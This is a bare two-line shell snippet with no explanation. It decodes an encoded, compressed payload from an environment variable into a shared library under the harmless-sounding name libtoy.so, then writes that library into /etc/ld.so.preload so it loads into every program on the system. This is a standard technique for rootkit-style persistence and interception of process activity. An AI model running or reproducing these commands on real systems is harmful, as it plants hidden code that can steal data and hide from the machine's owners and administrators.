base64 -d <<< "$LIBRARY" | gzip -d > /usr/local/lib/libtoy.so
echo /usr/local/lib/libtoy.so > /etc/ld.so.preload
